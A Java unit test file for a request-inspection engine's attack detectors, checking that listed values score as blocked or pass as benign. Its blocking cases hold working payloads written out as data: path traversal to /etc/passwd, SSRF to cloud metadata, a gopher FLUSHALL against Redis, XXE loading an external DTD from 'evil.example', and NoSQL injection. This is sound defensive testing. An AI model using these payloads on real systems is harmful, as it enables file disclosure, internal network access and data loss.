package ai.traceable.tme.engine.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import ai.traceable.tme.engine.decode.Decoding;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Single values through every shipped detector at paranoia 1: what must block (score of distinct
 * rules reaches 5) and what must pass.
 */
class DetectorsTest {

  static int score(Placement placement, String name, String raw) {
    Inspected value = new Inspected(placement, name, raw, Decoding.decode(raw, false));
    Set<String> seen = new HashSet<>();
    int[] score = {0};
    for (Detector d : Detectors.all()) {
      d.inspect(
          value,
          (rule, snippet) -> {
            if (rule.paranoia() == 1 && seen.add(rule.id())) {
              score[0] += rule.severity().score();
            }
          });
    }
    return score[0];
  }

  @ParameterizedTest(name = "{0} {1}={2}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          QUERY     | file     | ../../../../etc/passwd
          QUERY     | file     | ..%2f..%2f..%2fetc%2fshadow
          QUERY     | file     | ....//....//etc/passwd
          QUERY     | file     | ..\\..\\windows\\win.ini
          QUERY     | page     | php://filter/convert.base64-encode/resource=index.php
          QUERY     | doc      | /proc/self/environ
          PATH      |          | /static/../../etc/passwd
          QUERY     | url      | http://169.254.169.254/latest/meta-data/
          QUERY     | url      | http://2130706433/admin
          QUERY     | url      | http://0177.0.0.1/
          QUERY     | url      | http://0x7f000001:8080/
          QUERY     | url      | http://[::ffff:127.0.0.1]/
          QUERY     | url      | http://127.1/server-status
          QUERY     | url      | gopher://127.0.0.1:6379/_FLUSHALL
          QUERY     | url      | http://metadata.google.internal/computeMetadata/v1/
          QUERY     | host     | 169.254.169.254
          JSON      | webhook  | http://10.0.0.5:9200/_cat/indices
          XML       | document | <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
          XML       | document | <!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>
          JSON_KEY  | password | $ne
          QUERY_NAME|          | password[$regex]
          QUERY     | q        | {"$gt": ""}
          HEADER    | user-agent | sqlmap/1.7.2#stable (https://sqlmap.org)
          HEADER    | x-scanner  | yes
          PATH      |          | /.git/config
          """)
  void attacksBlock(Placement placement, String name, String raw) {
    assertThat(score(placement, name == null ? "" : name, raw)).isGreaterThanOrEqualTo(5);
  }

  @ParameterizedTest(name = "{0} {1}={2}")
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          QUERY     | file     | docs/2024/report.pdf
          QUERY     | page     | 2
          QUERY     | v        | 1.2.3.4
          QUERY     | redirect | https://app.example.com/callback?x=1
          QUERY     | next     | /dashboard/../settings
          JSON      | address  | 1600 Amphitheatre Pkwy, Mountain View
          JSON      | note     | Read ../README.md for details
          JSON      | text     | The file /etc/passwd lists the local users on Unix.
          PATH      |          | /downloads/v1.2.3/app-v1.2.3.tar.gz
          PATH      |          | /api/.well-known/openid-configuration
          PATH      |          | /.environment-setup
          HEADER    | referer  | http://localhost:3000/app
          HEADER    | user-agent | Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0
          XML       | document | <?xml version="1.0"?><order><id>42</id></order>
          JSON_KEY  | price    | price.$
          QUERY     | amount   | $10
          QUERY     | url      | https://www.example.com/a//b
          """)
  void benignValuesPass(Placement placement, String name, String raw) {
    assertThat(score(placement, name == null ? "" : name, raw)).isLessThan(5);
  }

  @Test
  void ruleIdsAreUniqueAndNamedAfterTheirClass() {
    Set<String> ids = new HashSet<>();
    for (Detector d : Detectors.all()) {
      for (DetectionRule r : d.rules()) {
        assertThat(ids.add(r.id())).as("duplicate %s", r.id()).isTrue();
        assertThat(r.id()).matches(r.attackClass().key() + "-\\d{3}");
        assertThat(r.attackClass()).isEqualTo(d.attackClass());
      }
    }
  }

  @Test
  void randomAndHostileValuesNeverThrow() {
    Random random = new Random(7);
    String alphabet = "./\\:%$[]{}<>!&;\"' -_0123456789abcdefxu@#=?\n\u2215\uff0e";
    List<String> seeds =
        List.of(
            "../../etc/passwd",
            "http://[::1]/",
            "<!DOCTYPE x [<!ENTITY",
            "a[$ne]=1",
            "http://0x7f.1/");
    List<String> inputs = new ArrayList<>();
    for (int i = 0; i < 5_000; i++) {
      StringBuilder s = new StringBuilder(seeds.get(random.nextInt(seeds.size())));
      int n = random.nextInt(30);
      for (int j = 0; j < n; j++) {
        s.insert(
            random.nextInt(s.length() + 1), alphabet.charAt(random.nextInt(alphabet.length())));
      }
      inputs.add(s.toString());
    }
    inputs.add("../".repeat(100_000));
    inputs.add("http://".repeat(50_000));
    inputs.add("<!ENTITY a \"&b;&b;\">".repeat(10_000));
    for (String input : inputs) {
      for (Placement p :
          new Placement[] {
            Placement.QUERY, Placement.PATH, Placement.HEADER, Placement.JSON_KEY, Placement.XML
          }) {
        assertThatCode(() -> score(p, "url", input)).doesNotThrowAnyException();
      }
    }
  }
}
